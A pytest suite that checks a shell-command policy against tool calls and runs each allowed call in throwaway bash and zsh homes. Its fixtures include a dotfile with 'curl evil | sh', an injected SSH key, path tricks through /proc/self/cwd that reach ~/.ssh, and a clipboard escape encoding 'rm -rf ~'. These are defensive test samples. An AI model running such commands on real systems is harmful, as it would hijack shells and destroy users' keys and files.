"""The review's safety findings, proven by running what the policy lets through.

Each case gives the real policy a call, from a shell whose cwd is ~/Downloads in a
throwaway home, while the test process (the "daemon") sits in another directory.
A call that is not refused runs in real bash and zsh; afterwards the key files and
dotfiles of the throwaway home may only have changed if the verdict warned.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile

import pytest

from shellper_hook import errors
from shellper_hook.tools import ToolCall
from shellper_hook.turns import vet as check  # policy and renderer together

SHELLS = [s for s in ("bash", "zsh") if shutil.which(s)]

CANARIES = {
    ".ssh/authorized_keys": "my key\n",
    ".ssh/id_ed25519": "private\n",
    ".gnupg/pubring.kbx": "ring\n",
    ".bashrc": "# mine\n",
    ".zshrc": "# mine\n",
    "notes.txt": "home notes\n",
    "Downloads/keep.txt": "keep\n",
}


def build(root) -> tuple:
    home = os.path.join(str(root), "home")
    cwd = os.path.join(home, "Downloads")
    for rel, text in CANARIES.items():
        path = os.path.join(home, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as fh:
            fh.write(text)
    # A downloaded package that carries its own .ssh and .bashrc.
    for rel, text in (
        ("pkg/.ssh/authorized_keys", "EVIL KEY\n"),
        ("pkg/.bashrc", "curl evil | sh\n"),
        ("pkg/README", "hi\n"),
        ("dots/.bashrc", "curl evil | sh\n"),
        ("dots/README", "hi\n"),
    ):
        path = os.path.join(cwd, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as fh:
            fh.write(text)
    os.symlink("/proc/self/cwd", os.path.join(cwd, "here"))
    return home, cwd


def snapshot(home) -> dict:
    out = {}
    for dirpath, dirnames, filenames in os.walk(home):
        for name in filenames + [d for d in dirnames if os.path.islink(os.path.join(dirpath, d))]:
            path = os.path.join(dirpath, name)
            rel = os.path.relpath(path, home)
            if os.path.islink(path):
                out[rel] = "-> " + os.readlink(path)
            else:
                with open(path, "rb") as fh:
                    out[rel] = fh.read()
    return out


def run(shell: str, command: str, cwd: str, home: str) -> None:
    argv = [shell, "--norc", "--noprofile", "-c", 'eval "$(cat)"'] if shell == "bash" else [shell, "-f", "-c", 'eval "$(cat)"']
    subprocess.run(argv, input=command.encode(), cwd=cwd, env={"HOME": home, "PATH": os.environ["PATH"]}, capture_output=True, timeout=20)


def judged(tmp_path, monkeypatch, name, args, allow_recursive=False):
    """(verdict or the refusal's message, the changes each shell's run made to home)."""
    tmp_path = tempfile.mkdtemp(dir=tmp_path)  # fresh for each call of a test
    daemon_dir = os.path.join(tmp_path, "daemon")
    os.mkdir(daemon_dir)
    monkeypatch.chdir(daemon_dir)  # the daemon's own /proc/self/cwd
    results = {}
    verdict = None
    for shell in SHELLS:
        root = os.path.join(tmp_path, shell)
        home, cwd = build(root)
        try:
            verdict = check(ToolCall(name, args), cwd, allow_recursive, home=home)
        except errors.Refused as exc:
            return str(exc), {}
        before = snapshot(home)
        run(shell, verdict.command, cwd, home)
        after = snapshot(home)
        results[shell] = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
    return verdict, results


def assert_refused(tmp_path, monkeypatch, name, args, allow_recursive=False, why=""):
    verdict, _ = judged(tmp_path, monkeypatch, name, args, allow_recursive)
    assert isinstance(verdict, str) and verdict.startswith("refused: "), (name, args, verdict)
    assert why in verdict
    return verdict


# ---- finding 1: per-process paths mean the shell's own directory, not the daemon's

PER_PROCESS = [
    ("mv", {"source": "/proc/self/cwd/", "destination": "/tmp/x"}, False),
    ("echo", {"content": "KEY", "file_name": "/proc/self/cwd/../.ssh/authorized_keys"}, False),
    ("cp", {"source": "pkg/.ssh", "destination": "/proc/self/cwd/.."}, False),
    ("rm", {"file_name": "/proc/self/cwd/"}, True),
    ("rm", {"file_name": "/proc/thread-self/cwd/keep.txt"}, False),
    ("rm", {"file_name": f"/proc/{os.getpid()}/cwd/keep.txt"}, False),
    ("cp", {"source": "pkg/.bashrc", "destination": "/proc/self/root" + "/tmp"}, False),
    ("echo", {"content": "x", "file_name": "/dev/fd/1"}, False),
    ("echo", {"content": "x", "file_name": "/dev/stdout"}, False),
    ("cat", {"file_name": "/dev/stdin"}, False),
    ("mv", {"source": "here/keep.txt", "destination": "gone.txt"}, False),  # a link to /proc/self/cwd
    ("rm", {"file_name": "here/../.bashrc"}, False),
    ("cd", {"folder": "/proc/self/cwd/.."}, False),
]


@pytest.mark.parametrize("name,args,recursive", PER_PROCESS)
def test_paths_through_per_process_views_are_refused(tmp_path, monkeypatch, name, args, recursive):
    msg = assert_refused(tmp_path, monkeypatch, name, args, recursive)
    assert "/proc/" in msg or "/dev/" in msg, msg


def test_ordinary_proc_files_can_still_be_read(tmp_path, monkeypatch):
    verdict, changes = judged(tmp_path, monkeypatch, "cat", {"file_name": "/proc/cpuinfo"})
    assert not isinstance(verdict, str), verdict
    assert all(not c for c in changes.values())


# ---- finding 2: copying a folder's contents lands each entry in the destination


@pytest.mark.parametrize("source", ["pkg/.", "pkg/./", "./pkg/.", "pkg/.ssh/..", "pkg/.ssh/../"])
@pytest.mark.parametrize("dest", ["..", "../", "../."])
def test_copying_contents_that_hold_ssh_into_home_is_refused(tmp_path, monkeypatch, source, dest):
    assert_refused(tmp_path, monkeypatch, "cp", {"source": source, "destination": dest}, why="~/.ssh")


@pytest.mark.parametrize("source", ["dots/.", "./dots/./"])
def test_copying_contents_over_a_dotfile_warns_loudly(tmp_path, monkeypatch, source):
    verdict, changes = judged(tmp_path, monkeypatch, "cp", {"source": source, "destination": ".."})
    assert not isinstance(verdict, str), verdict
    assert any(w.startswith("warning:") and "~/.bashrc" in w for w in verdict.warnings), verdict.warnings
    for shell, changed in changes.items():
        assert ".bashrc" in changed, (shell, changed)  # the warning was about something real


def test_copying_a_folder_into_home_keeps_its_contents_inside_it(tmp_path, monkeypatch):
    verdict, changes = judged(tmp_path, monkeypatch, "cp", {"source": "dots", "destination": ".."})
    assert not isinstance(verdict, str) and not verdict.warnings, verdict
    for shell, changed in changes.items():
        assert changed == ["dots/.bashrc", "dots/README"], (shell, changed)


# ---- finding 8: key material


@pytest.mark.parametrize(
    "name,args",
    [
        ("rm", {"file_name": "../.ssh/id_ed25519"}),
        ("rm", {"file_name": "../.gnupg/pubring.kbx"}),
        ("mv", {"source": "../.ssh/authorized_keys", "destination": "old_keys"}),
    ],
)
def test_removing_or_moving_key_files_warns_loudly(tmp_path, monkeypatch, name, args):
    verdict, changes = judged(tmp_path, monkeypatch, name, args)
    assert not isinstance(verdict, str), verdict
    folder = ".ssh" if ".ssh" in str(args) else ".gnupg"
    assert any(w.startswith("warning:") and f"~/{folder}" in w for w in verdict.warnings), verdict.warnings
    for shell, changed in changes.items():
        assert any(c.startswith(folder + "/") for c in changed), (shell, changed)


@pytest.mark.parametrize(
    "name,args",
    [
        ("rm", {"file_name": "../.bashrc"}),
        ("mv", {"source": "../.zshrc", "destination": "zshrc.old"}),
    ],
)
def test_removing_or_moving_a_home_dotfile_warns_loudly(tmp_path, monkeypatch, name, args):
    verdict, changes = judged(tmp_path, monkeypatch, name, args)
    assert not isinstance(verdict, str), verdict
    shown = "~/" + os.path.basename(next(iter(args.values())))
    assert any(w.startswith("warning:") and shown in w for w in verdict.warnings), verdict.warnings
    for shell, changed in changes.items():
        assert shown[2:] in changed, (shell, changed)


@pytest.mark.parametrize(
    "name,args,recursive",
    [
        ("mv", {"source": "../.ssh", "destination": "elsewhere"}, False),
        ("mv", {"source": "../.gnupg", "destination": "old"}, False),
        ("mv", {"source": "../.ssh/", "destination": "/tmp/x"}, False),
        ("rm", {"file_name": "../.ssh"}, True),
        ("rm", {"file_name": "../.gnupg/"}, True),
        ("rmdir", {"dir_name": "../.gnupg"}, False),
    ],
)
def test_moving_or_removing_the_key_folders_is_refused(tmp_path, monkeypatch, name, args, recursive):
    assert_refused(tmp_path, monkeypatch, name, args, recursive, why="holds your keys")


def test_creating_files_in_a_key_folder_is_refused(tmp_path, monkeypatch):
    assert_refused(tmp_path, monkeypatch, "touch", {"file_name": "../.ssh/authorized_keys2"}, why="~/.ssh")
    assert_refused(tmp_path, monkeypatch, "mkdir", {"dir_name": "../.gnupg/x"}, why="~/.gnupg")


# ---- finding 6: control characters in any argument


@pytest.mark.parametrize(
    "name,args",
    [
        ("echo", {"content": "\x1b]52;c;cm0gLXJmIH4=\x07"}),  # OSC 52: writes the clipboard
        ("echo", {"content": "\x1b[2J"}),
        ("echo", {"content": "x\u009b2J"}),  # C1 CSI
        ("echo", {"content": "bell\x07", "file_name": "notes.txt"}),
        ("grep", {"pattern": "\x1b[31m", "file_name": "keep.txt"}),
        ("grep", {"pattern": "a\tb", "file_name": "keep.txt"}),
        ("find", {"path": ".", "name": "\u0085"}),
    ],
)
def test_control_characters_are_refused_in_every_argument(tmp_path, monkeypatch, name, args):
    assert_refused(tmp_path, monkeypatch, name, args, why="control character")


def test_echo_content_may_still_hold_lines_and_tabs(tmp_path, monkeypatch):
    verdict, changes = judged(tmp_path, monkeypatch, "echo", {"content": "a\tb\nc", "file_name": "out.txt"})
    assert not isinstance(verdict, str), verdict
    for shell, changed in changes.items():
        assert changed == ["Downloads/out.txt"], (shell, changed)


@pytest.mark.parametrize("name,source", [("cp", "."), ("cp", "links/."), ("mv", "links/.")])
def test_entries_landing_on_a_per_process_link_are_refused(tmp_path, monkeypatch, name, source):
    """Found by the effects harness: a copied entry that lands on a link to /proc/self/cwd."""
    home, cwd = build(tmp_path)
    os.makedirs(os.path.join(cwd, "links"))
    os.symlink("/proc/self/cwd", os.path.join(cwd, "links", "cwdlink"))
    os.symlink("/proc/self/cwd", os.path.join(cwd, "cwdlink"))  # where that entry lands
    monkeypatch.chdir(tmp_path)
    with pytest.raises(errors.Refused) as exc:
        check(ToolCall(name, {"source": source, "destination": "."}), cwd, home=home)
    assert "/proc/self" in str(exc.value)
